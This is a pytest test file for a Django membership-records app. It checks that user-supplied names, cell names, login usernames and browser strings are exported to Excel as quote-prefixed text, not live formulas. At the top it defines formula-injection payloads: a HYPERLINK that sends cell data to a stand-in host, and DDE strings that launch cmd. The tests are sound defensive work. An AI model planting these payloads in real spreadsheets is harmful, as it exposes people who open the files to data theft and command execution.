"""Text typed by anyone leaves every workbook as text (issue 16, finding 2): a name, a note, a
failed sign-in's username or browser string that begins with =, +, - or @ is a string cell with
Excel's quote prefix, never a live formula."""

import io
from datetime import date

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from ceremonies import services as rounds
from ceremonies.milestones import known_milestones
from members.imports import error_report, plan_import
from ratings import services as ratings
from ratings.models import RatingYear
from tests.clients import sign_in
from tests.factories import CellFactory, make_member
from tests.spreadsheets import csv_bytes

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
HOSTILE_CELL = "+cmd|' /C calc'!A0"
HOSTILE_AGENT = "@SUM(1+9)*cmd|' /C calc'!A0"
HOSTILE_USERNAME = "-2+3+cmd|' /C calc'!A0"


def text_cells(content: bytes) -> dict[str, tuple[str, bool]]:
    """Every cell holding a hostile text: its type and whether it is quote-prefixed."""
    workbook = load_workbook(io.BytesIO(content))
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (HOSTILE_NAME, HOSTILE_CELL, HOSTILE_AGENT, HOSTILE_USERNAME):
                    found[cell.value] = (cell.data_type, cell.quotePrefix)
    return found


def no_formulas(content: bytes) -> bool:
    workbook = load_workbook(io.BytesIO(content))
    return not any(
        cell.data_type == "f"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
    )


@pytest.fixture
def hostile_member():
    return make_member(
        cell=CellFactory(name=HOSTILE_CELL),
        full_name=HOSTILE_NAME,
        party_card_number="-1",
        admission_date=date(1996, 1, 1),
        official_date=date(1997, 1, 1),
    )


AS_TEXT = {HOSTILE_NAME: ("s", True), HOSTILE_CELL: ("s", True)}


def test_the_member_list_keeps_text_as_text(office_client, hostile_member):
    response = office_client.get(reverse("members:member_list"), {"format": "xlsx"})

    assert text_cells(response.content) == AS_TEXT
    assert no_formulas(response.content)


def test_the_register_7_hsdv_keeps_text_as_text(office_client, hostile_member):
    response = office_client.get(reverse("members:register_export"))

    assert text_cells(response.content) == {HOSTILE_NAME: ("s", True)}
    assert no_formulas(response.content)


def test_the_4_hhd_list_keeps_text_as_text(office_client, hostile_member):
    round_ = rounds.round_create(day=date(2026, 9, 2), occasion="0902")
    rounds.round_fill(round_=round_)

    response = office_client.get(
        reverse("ceremonies:round_document", args=[round_.pk, "4", "xlsx"])
    )

    assert text_cells(response.content) == AS_TEXT
    assert no_formulas(response.content)


def test_the_import_error_file_keeps_the_typed_value_as_text(db):
    content = csv_bytes(
        [["Nguyễn Văn An", "=1+2", "Chi bộ A", "19/05/1990"]],
        headers=["Họ và tên", "Ngày sinh", "Chi bộ", "Ngày vào Đảng"],
    )
    plan = plan_import("danh-sach.csv", content, milestones=known_milestones())

    export = error_report("danh-sach.csv", plan.errors, None)

    workbook = load_workbook(io.BytesIO(export.content))
    (value,) = [
        cell
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value == "=1+2"  # the value of "Ngày sinh", quoted back in the error file
    ]
    assert (value.data_type, value.quotePrefix) == ("s", True)
    assert no_formulas(export.content)


def test_the_commendations_keep_text_as_text(office_client, hostile_member):
    for year in range(2021, 2026):
        rating_year = ratings.rating_year(year)
        ratings.ratings_save(
            year=rating_year,
            cell=hostile_member.cell,
            levels={hostile_member.pk: ("HTXSNV", None)},
            cell_level="HTXSNV",
        )
        RatingYear.objects.filter(pk=rating_year.pk).update(locked=True)

    response = office_client.get(reverse("ratings:commendations", args=[2025]), {"format": "xlsx"})

    assert text_cells(response.content) == AS_TEXT
    assert no_formulas(response.content)


def test_the_audit_export_keeps_a_strangers_sign_in_as_text(client, office_client):
    """Anyone, signed in or not, can put a username and a browser string into the trail."""
    client.post(
        reverse("login"),
        {"username": HOSTILE_USERNAME, "password": "sai"},
        REMOTE_ADDR="10.0.0.9",
        HTTP_USER_AGENT=HOSTILE_AGENT,
    )
    sign_in(client, "khong-co", "sai")
    today = timezone.localdate()

    response = office_client.get(
        reverse("office:audit_export"), {"start": f"{today:%d/%m/%Y}", "end": f"{today:%d/%m/%Y}"}
    )

    assert text_cells(response.content) == {
        HOSTILE_USERNAME: ("s", True),
        HOSTILE_AGENT: ("s", True),
    }
    assert no_formulas(response.content)


def test_the_report_workbook_keeps_a_cell_name_as_text(office_client, hostile_member):
    response = office_client.get(reverse("reports:report", args=["nam", 2025]), {"format": "xlsx"})

    assert text_cells(response.content) == {HOSTILE_CELL: ("s", True)}
    assert no_formulas(response.content)
